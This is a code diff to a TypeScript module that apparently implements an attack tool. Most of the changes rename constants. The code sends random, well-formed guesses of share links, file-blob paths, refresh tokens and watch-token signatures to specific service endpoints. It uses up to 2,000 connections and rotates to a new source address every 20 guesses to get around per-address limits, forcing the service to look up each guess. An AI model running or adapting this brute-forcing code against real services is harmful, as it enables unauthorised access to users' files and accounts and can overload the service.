@@ -5,22 +5,24 @@ import type { AttackTarget } from './raw-client.js';
 
 /** Number of guesses from one address; the following guesses come from another address. */
 const GUESSES_PER_ADDRESS = 20;
-const TICK_MS = 10;
-const VARIANTS_PER_REQUEST = 256;
+const SEND_TIMER_INTERVAL_MS = 10;
+/** Number of different guesses per operation; the guesses are repeated in order. */
+const PREPARED_GUESSES_PER_OPERATION = 256;
 const MAX_CONNECTIONS = 2_000;
 
-const token = (bytes: number): string => randomBytes(bytes).toString('base64url');
+const randomToken = (bytes: number): string => randomBytes(bytes).toString('base64url');
 
 /**
  * Requests that guess share links, file links, refresh tokens and watch signatures. Each guess is well-formed, so that
  * the service has to look it up.
  */
-const GUESSES = [
-  () => getRequest(`/share/${token(32)}`),
-  () => getRequest(`/app-api/mcdisk/blob/${token(64)}`),
-  () => jsonRequest('/apis/v2/userctx/user/account/token/refresh', { refreshToken: token(32) }),
-  () => jsonRequest('/apis/v2/userctx/watch/token/create', { did: 42, nonce: token(32), signature: token(64) }),
-].flatMap((create) => Array.from({ length: VARIANTS_PER_REQUEST }, create));
+const PREPARED_GUESSES = [
+  () => getRequest(`/share/${randomToken(32)}`),
+  () => getRequest(`/app-api/mcdisk/blob/${randomToken(64)}`),
+  () => jsonRequest('/apis/v2/userctx/user/account/token/refresh', { refreshToken: randomToken(32) }),
+  () =>
+    jsonRequest('/apis/v2/userctx/watch/token/create', { did: 42, nonce: randomToken(32), signature: randomToken(64) }),
+].flatMap((create) => Array.from({ length: PREPARED_GUESSES_PER_OPERATION }, create));
 
 interface GuessingConnection {
   socket: Socket;
@@ -29,8 +31,8 @@ interface GuessingConnection {
 }
 
 /**
- * Sends guesses at a fixed rate from changing addresses, one at a time per connection. If no connection is idle, a
- * further one is opened.
+ * Sends guesses at a fixed rate from changing addresses, one at a time per connection. If no connection is idle, the
+ * next guess is sent over a new connection.
  */
 export class Guesses {
   readonly statuses = new StatusCounts();
@@ -50,7 +52,7 @@ export class Guesses {
 
   start(): void {
     this.startedAt = performance.now();
-    setInterval(() => this.sendDue(), TICK_MS);
+    setInterval(() => this.sendDue(), SEND_TIMER_INTERVAL_MS);
   }
 
   private sendDue(): void {
@@ -62,7 +64,7 @@ export class Guesses {
     }
   }
 
-  /** Opens a connection from another address, whose first guess is sent at once. */
+  /** Opens a connection from another address and sends its first guess at once. */
   private open(): void {
     this.connectionCount += 1;
     this.addresses += 1;
@@ -90,7 +92,7 @@ export class Guesses {
   private send(connection: GuessingConnection): void {
     connection.remaining -= 1;
     connection.sentAt = performance.now();
-    connection.socket.write(GUESSES[this.sent % GUESSES.length] as Buffer);
+    connection.socket.write(PREPARED_GUESSES[this.sent % PREPARED_GUESSES.length] as Buffer);
     this.sent += 1;
   }
 }
